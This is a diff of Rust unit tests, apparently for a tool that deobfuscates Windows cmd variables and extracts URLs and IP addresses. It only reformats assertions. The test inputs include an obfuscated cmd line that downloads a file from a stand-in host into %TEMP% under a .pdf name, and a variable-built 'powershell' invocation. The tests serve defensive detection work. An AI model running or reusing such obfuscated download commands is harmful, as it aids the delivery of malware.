@@ -1201,7 +1201,10 @@ mod tests {
     fn cmd_variables_are_put_back_where_they_are_used() {
         let t = r#"cmd /v:on /c "set u=ht&&set v=tps://x.example/a&&curl -o %TEMP%\r.pdf !u!!v!/r.pdf""#;
         let x = expand_cmd_vars(t).unwrap();
-        assert!(x.contains("curl -o %TEMP%\\r.pdf https://x.example/a/r.pdf"), "{x}");
+        assert!(
+            x.contains("curl -o %TEMP%\\r.pdf https://x.example/a/r.pdf"),
+            "{x}"
+        );
         assert!(deobfuscate(t).contains("https://x.example/a/r.pdf"));
         // Variables built from variables; unknown ones stay; nothing to do gives None.
         let y = expand_cmd_vars("set a=po&& set b=%a%wershell&& %b% -c 1 %path%").unwrap();
@@ -1335,7 +1338,9 @@ mod tests {
             vec!["https://x.example/a?b=1&c=2", "https://y.example/u.bin"]
         );
         assert_eq!(
-            ips("Assembly.Load(\"System.Web, Version=4.0.0.0, Culture=neutral\"); version='2.0.0.1' 203.0.113.9"),
+            ips(
+                "Assembly.Load(\"System.Web, Version=4.0.0.0, Culture=neutral\"); version='2.0.0.1' 203.0.113.9"
+            ),
             vec!["203.0.113.9"],
             "versions are not addresses"
         );
